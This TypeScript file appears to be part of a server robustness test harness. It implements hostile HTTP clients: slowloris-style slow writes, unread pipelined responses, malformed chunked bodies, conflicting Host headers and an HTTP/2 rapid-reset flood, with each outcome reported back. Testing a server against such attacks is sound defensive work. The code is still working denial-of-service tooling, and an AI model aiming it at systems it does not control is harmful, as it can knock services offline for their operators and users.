// Attackers that write HTTP by hand: they stop in the middle of a body, write or read slowly, break
// the framing, pipeline, or reset streams as fast as they open them.
import { once } from 'node:events'
import { type ClientHttp2Session, connect as connectHttp2, constants } from 'node:http2'
import { connect, type Socket } from 'node:net'
import { pause } from './ask.ts'
import type { Context, HostileClient } from './hostile-attack.ts'

const BYTE_MS = 1000
const ANSWER_MS_MAX = 10_000
const RETRY_MS = 200

async function open({ target, signal }: Context): Promise<Socket | null> {
  const { port, hostname } = new URL(target.url)
  const socket = connect({ port: Number(port), host: hostname })
  const end = (): void => void socket.destroy()
  signal.addEventListener('abort', end)
  socket.once('close', () => signal.removeEventListener('abort', end))
  try {
    await once(socket, 'connect', { signal })
  } catch {
    // Refused, or the attack is over.
    socket.destroy()
    return null
  }
  // A connection that the server cuts is one of the outcomes.
  socket.on('error', end)
  return socket
}

type Head = { readonly path: string; readonly key: string; readonly headers: readonly string[] }

const headOf = ({ path, key, headers }: Head): string =>
  [
    `POST ${path} HTTP/1.1`,
    'Host: 127.0.0.1',
    `Authorization: Bearer ${key}`,
    'Content-Type: application/json',
    ...headers,
    '',
    '',
  ].join('\r\n')

/** Resolves with the received text when the connection ends or `whole` returns true. */
function answerOf(socket: Socket, whole: (text: string) => boolean): Promise<string> {
  return new Promise((resolve) => {
    let text = ''
    const timer = setTimeout(() => socket.destroy(), ANSWER_MS_MAX)
    const end = (): void => {
      clearTimeout(timer)
      resolve(text)
    }
    socket.on('data', (chunk) => {
      text += chunk.toString('latin1')
      if (whole(text)) socket.destroy()
    })
    socket.once('close', end)
  })
}

const statusOf = (text: string): number | 'cut' => {
  const found = /^HTTP\/1\.1 (\d+)/.exec(text)
  return found === null ? 'cut' : Number(found[1])
}

const hasHead = (text: string): boolean => text.includes('\r\n\r\n')

/** Sends all of a packed body, announces one byte more, and stops. */
export function silent(path: string, encoding: 'gzip' | 'br', body: Uint8Array): HostileClient {
  const headers = [`Content-Encoding: ${encoding}`, `Content-Length: ${body.length + 1}`]
  return waiting((key) => [headOf({ path, key, headers }), body])
}

/** Sends once, then keeps the connection open until the server answers or closes it. */
function waiting(parts: (key: string) => readonly (string | Uint8Array)[]): HostileClient {
  return async (context) => {
    while (context.goesOn()) {
      const socket = await open(context)
      if (socket === null) {
        context.tell(context.signal.aborted ? 'unanswered' : 'cut')
        await pause(RETRY_MS)
        continue
      }
      for (const part of parts(context.key)) socket.write(part)
      const text = await closed(socket)
      context.tell(context.signal.aborted && text === '' ? 'unanswered' : statusOf(text))
      if (!context.signal.aborted) await pause(RETRY_MS)
    }
  }
}

/** Returns the text received before the end; closes this side with the first answer. */
function closed(socket: Socket): Promise<string> {
  return new Promise((resolve) => {
    let text = ''
    socket.on('data', (chunk) => {
      text += chunk.toString('latin1')
      if (hasHead(text)) socket.destroy()
    })
    socket.once('close', () => resolve(text))
  })
}

/** Sends a byte per second of a body that never ends. */
export function slowWriter(path: string): HostileClient {
  return async (context) => {
    while (context.goesOn()) {
      const socket = await open(context)
      if (socket === null) {
        context.tell(context.signal.aborted ? 'unanswered' : 'cut')
        await pause(RETRY_MS)
        continue
      }
      socket.write(headOf({ path, key: context.key, headers: ['Content-Length: 100000'] }))
      const timer = setInterval(() => socket.write('{'), BYTE_MS)
      const text = await closed(socket)
      clearInterval(timer)
      context.tell(context.signal.aborted && text === '' ? 'unanswered' : statusOf(text))
      if (!context.signal.aborted) await pause(RETRY_MS)
    }
  }
}

/** Requests large answers `ahead` times and reads none of them. */
export function slowReader(path: string, body: Uint8Array, ahead: number): HostileClient {
  return async (context) => {
    while (context.goesOn()) {
      const socket = await open(context)
      if (socket === null) {
        context.tell(context.signal.aborted ? 'unanswered' : 'cut')
        await pause(RETRY_MS)
        continue
      }
      // Without a listener for data, the socket fills one buffer and then stops reading.
      const headers = [`Content-Length: ${body.length}`]
      const head = Buffer.from(headOf({ path, key: context.key, headers }))
      const request = Buffer.concat([head, body])
      socket.write(Buffer.concat(Array.from({ length: ahead }, () => request)))
      await once(socket, 'close')
      context.tell(context.signal.aborted ? 'unanswered' : 'cut')
      if (!context.signal.aborted) await pause(RETRY_MS)
    }
  }
}

/** Sends a handwritten request, reads its status, and repeats. */
function byHand(texts: readonly ((key: string) => string)[]): HostileClient {
  return async (context) => {
    for (let turn = context.number; context.goesOn(); turn++) {
      const socket = await open(context)
      if (socket === null) {
        context.tell(context.signal.aborted ? 'unanswered' : 'cut')
        await pause(RETRY_MS)
        continue
      }
      const answer = answerOf(socket, hasHead)
      socket.write(texts[turn % texts.length]!(context.key))
      const text = await answer
      context.tell(context.signal.aborted && text === '' ? 'unanswered' : statusOf(text))
      await pause(2)
    }
  }
}

/** Sends many requests in one write; reports each answer. */
export function pipelined(path: string, count: number): HostileClient {
  return async (context) => {
    const headers = ['Content-Length: 2']
    const request = `${headOf({ path, key: context.key, headers })}{}`
    while (context.goesOn()) {
      const socket = await open(context)
      if (socket === null) {
        context.tell(context.signal.aborted ? 'unanswered' : 'cut')
        await pause(RETRY_MS)
        continue
      }
      let came = 0
      const answer = answerOf(socket, (text) => {
        came = text.split('HTTP/1.1 ').length - 1
        return came >= count
      })
      socket.write(request.repeat(count))
      const statuses = [...(await answer).matchAll(/HTTP\/1\.1 (\d+)/g)]
      for (const [, status] of statuses) context.tell(Number(status))
      if (statuses.length < count) context.tell(context.signal.aborted ? 'unanswered' : 'cut')
      await pause(20)
    }
  }
}

export const twoHosts = (path: string): HostileClient =>
  byHand([
    (key) => `${headOf({ path, key, headers: ['Host: other.example', 'Content-Length: 2'] })}{}`,
    (key) => `${headOf({ path, key, headers: ['host: 127.0.0.1', 'Content-Length: 2'] })}{}`,
  ])

const BAD_CHUNKS = [
  'zz\r\n{}\r\n0\r\n\r\n',
  'fffffffffffffffff\r\n{}\r\n',
  '-2\r\n{}\r\n0\r\n\r\n',
  '2\r\n{}0\r\n\r\n',
  '2\n{}\n0\n\n',
  '0x2\r\n{}\r\n0\r\n\r\n',
]

export const badChunks = (path: string): HostileClient =>
  byHand(
    BAD_CHUNKS.map((chunks) => (key: string) => {
      const headers = ['Transfer-Encoding: chunked']
      return headOf({ path, key, headers }) + chunks
    }),
  )

/** Number of streams that are opened and reset together. */
const RESETS = 100
const CONNECT_MS_MAX = 5000

/** HTTP/2: resets each stream as soon as its request is sent. */
export function rapidReset(path: string): HostileClient {
  return async (context) => {
    while (context.goesOn()) {
      const session = connectHttp2(context.target.url, { rejectUnauthorized: false })
      session.on('error', () => session.destroy())
      const deadline = AbortSignal.any([context.signal, AbortSignal.timeout(CONNECT_MS_MAX)])
      try {
        await once(session, 'connect', { signal: deadline })
        await resetUntilClosed(session, path, context)
      } catch {
        // Refused, too slow, or the attack is over.
        context.tell(context.signal.aborted ? 'unanswered' : 'cut')
      }
      session.destroy()
      await pause(RETRY_MS)
    }
  }
}

async function resetUntilClosed(
  session: ClientHttp2Session,
  path: string,
  { key, goesOn, signal, tell }: Context,
): Promise<void> {
  const headers = { ':method': 'GET', ':path': path, authorization: `Bearer ${key}` }
  const isOpen = (): boolean => !session.closed && !session.destroyed
  while (isOpen() && goesOn()) {
    const closed: Promise<void>[] = []
    for (let i = 0; i < RESETS && isOpen(); i++) {
      const stream = session.request(headers)
      stream.on('error', () => stream.destroy())
      closed.push(new Promise((resolve) => void stream.once('close', resolve)))
      // Sends the frames first: a stream that is closed immediately is never sent.
      setImmediate(() => stream.close(constants.NGHTTP2_CANCEL))
    }
    await Promise.race([Promise.all(closed), pause(CONNECT_MS_MAX)])
    tell('unanswered')
  }
  if (!signal.aborted && !isOpen()) tell('cut')
}
